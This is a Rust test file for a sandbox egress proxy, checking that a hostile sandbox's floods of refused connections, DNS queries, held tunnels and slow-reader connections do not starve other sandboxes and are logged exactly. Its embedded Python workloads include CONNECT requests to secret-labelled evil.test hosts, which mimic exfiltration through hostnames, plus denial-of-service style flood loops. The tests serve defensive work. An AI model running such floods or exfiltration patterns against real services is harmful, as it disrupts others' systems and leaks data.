//! A sandbox that asks for too much: the server stays there for the others, and what it tells stays exact.

use super::{Stage, background, put, python};
use crate::{
    engine::fixture::eventually,
    server::{egress::egress, fixture::Server},
};
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use serde_json::{Value, json};
use std::time::Instant;

const FLOOD: u64 = 10_000;

/// Every row of a sandbox, page by page.
fn all_rows(server: &Server, sandbox: &str) -> Vec<Value> {
    let (mut rows, mut before) = (Vec::new(), String::new());
    loop {
        let page = server.ask("GET", &format!("{sandbox}/egress/log?limit=500{before}"), "").json();
        rows.extend(page["entries"].as_array().unwrap().iter().cloned());
        match page["next_before"].as_u64() {
            Some(next) => before = format!("&before={next}"),
            None => return rows,
        }
    }
}

#[test]
fn a_flood_of_refusals_is_counted_whole_and_told_in_few_rows() {
    let stage = Stage::new();
    let (server, began) = (&stage.server, Instant::now());
    let (hostile, other) =
        (stage.sandbox(&json!({ "mode": "none" })), stage.sandbox(&json!({ "mode": "none" })));
    let program = format!(
        "import socket as s, threading\ndef some(k):\n for n in range({}):\n  x = s.create_connection(('127.0.0.1', 3128), 60)\n  \
         try: x.sendall(b'CONNECT s3cret%d-%d.evil.test:443 HTTP/1.1\\r\\n\\r\\n' % (k, n)); x.recv(64)\n  except OSError: pass\n  x.close()\n\
         all = [threading.Thread(target=some, args=(k,)) for k in range(4)]\n[t.start() for t in all]; [t.join() for t in all]",
        FLOOD / 4
    );
    let exec = background(server, &hostile, &program);
    // Meanwhile everybody else is served.
    while server.ask("GET", &exec, "").json()["status"] == "running" {
        assert_eq!(server.says(&other, "echo here"), "here");
        assert_eq!(server.ask("GET", "/health", "").status, 200);
    }
    eventually("the whole count", || egress(server, &hostile)["refused"] == FLOOD);
    let counted = || all_rows(server, &hostile).iter().map(|row| row["count"].as_u64().unwrap()).sum::<u64>();
    eventually("every refusal in the log", || counted() == FLOOD);
    let (rows, seconds) = (all_rows(server, &hostile).len() as u64, began.elapsed().as_secs());
    assert!(rows < 1100 + 25 * seconds, "{rows} rows in {seconds} s");
    assert_eq!(stage.world.questions(), [""; 0]);
    assert_eq!(egress(server, &other)["refused"], 0);
}

/// Asks as fast as it can, everywhere that something listens, until it is ended.
const EVERYWHERE: &str = r"
import socket as s, threading
def proxy():
    while True:
        try:
            x = s.create_connection(('127.0.0.1', 3128), 5); x.sendall(b'CONNECT evil.test:443 HTTP/1.1\r\n\r\n'); x.close()
        except OSError: pass
def block():
    while True:
        try: s.create_connection(('198.18.0.9', 443), 5).close()
        except OSError: pass
def names():
    x = s.socket(s.AF_INET, s.SOCK_DGRAM); x.setblocking(False)
    while True:
        try: x.sendto(b'\0\7\1\0\0\1\0\0\0\0\0\0\4evil\4test\0\0\1\0\1', ('127.0.0.53', 53))
        except OSError: pass
for f in (proxy, proxy, block, names): threading.Thread(target=f).start()
";

#[test]
fn a_sandbox_that_floods_its_egress_sockets_starves_no_other() {
    let stage = Stage::new();
    stage.world.name("public.test", &[super::outside::PUBLIC]);
    let hostile = stage.sandbox(&json!({ "mode": "full" }));
    let other = stage.sandbox(&json!({ "mode": "full" }));
    let exec = background(&stage.server, &hostile, EVERYWHERE);
    eventually("the flood", || egress(&stage.server, &hostile)["refused"].as_u64() > Some(500));
    let page = format!("outside {}", super::outside::PUBLIC);
    for way in ["connect", "http", "socks", "direct"] {
        let answers = stage.ask(&other, &[(way, "public.test", stage.outside.port); 20]);
        assert_eq!(answers, [page.as_str(); 20], "{way}");
    }
    assert_eq!(stage.server.ask("GET", &exec, "").json()["status"], "running", "it floods all the while");
    assert_eq!(stage.server.ask("POST", &format!("{exec}/kill"), "").status, 200);
}

/// Opens tunnels until so many are open or were refused for good, and keeps them until there is a file `stop`.
const TUNNELS: &str = r"
import os, socket as s, time
held, refused = [], 0
while len(held) + refused < 1100:
    x = s.create_connection(('127.0.0.1', 3128), 60)
    x.sendall(b'CONNECT HOST HTTP/1.1\r\n\r\n')
    answer = b''
    while b'\r\n\r\n' not in answer:
        more = x.recv(4096)
        if not more: break
        answer += more
    if b' 200 ' in answer: held.append(x)
    elif b'per_second' in answer: time.sleep(0.05)
    else: refused += 1
print(len(held), refused, flush=True)
while not os.path.exists('stop'): time.sleep(0.05)
";

/// A server that was started as a login shell starts one: with few descriptors, and the right to have more.
fn with_few_descriptors<T>(start: impl FnOnce() -> T) -> T {
    let usual = getrlimit(Resource::Nofile);
    setrlimit(Resource::Nofile, Rlimit { current: Some(1024), ..usual }).unwrap();
    let started = start();
    setrlimit(Resource::Nofile, usual).unwrap();
    started
}

#[test]
fn more_connections_than_may_be_open_are_refused_and_cost_nobody_else() {
    let stage = with_few_descriptors(Stage::new);
    let server = &stage.server;
    let policy = stage.world.allow(&["a.test"]);
    let (hostile, other) = (stage.sandbox(&policy), stage.sandbox(&policy));
    let host = format!("a.test:{}", stage.world.web.port());
    let exec = background(server, &hostile, &TUNNELS.replace("HOST", &host));
    let said = || server.ask("GET", &format!("{exec}/output?format=raw"), "");
    eventually("all of them", || !said().body.is_empty());
    assert_eq!(String::from_utf8_lossy(&said().body).trim(), "1024 76");
    assert_eq!(egress(server, &hostile)["connections_open"], 1024);
    // Neither the other one nor the API feels it.
    let pages = stage.ask(&other, &[("http", "a.test", stage.world.web.port()); 10]);
    assert!(pages.iter().all(|page| page.starts_with("page of ")), "{pages:?}");
    let many: Vec<_> = (0..50).map(|_| std::net::TcpStream::connect(server.address).unwrap()).collect();
    assert_eq!(server.says(&other, "echo here"), "here");
    drop(many);
    put(server, &hostile, "stop", "");
    eventually("their end", || egress(server, &hostile)["connections_open"] == 0);
    let pages = stage.ask(&hostile, &[("http", "a.test", stage.world.web.port())]);
    assert!(pages[0].starts_with("page of "), "{pages:?}");
}

#[test]
fn a_reader_that_is_too_slow_is_disconnected() {
    let stage = Stage::new();
    let sandbox = stage.sandbox(&stage.world.allow(&["a.test"]));
    // A byte now and then, of a head that never ends, on many connections; and others are served meanwhile.
    let program = format!(
        "import probes, socket as s, time\nslow = [s.create_connection(probes.PROXY, 60) for _ in range(200)]\nended = pages = 0\n\
         while slow:\n for x in list(slow):\n  x.settimeout(0)\n  try:\n   x.send(b'G'); done = x.recv(9) == b''\n  \
         except BlockingIOError: done = False\n  except OSError: done = True\n  if done: ended += 1; slow.remove(x)\n \
         pages += probes.http('a.test', {}).startswith('page of'); time.sleep(0.2)\nprint(ended, pages > 5)",
        stage.world.web.port()
    );
    assert_eq!(python(&stage.server, &sandbox, &program), "200 True");
    eventually("no connection left", || egress(&stage.server, &sandbox)["connections_open"] == 0);
}
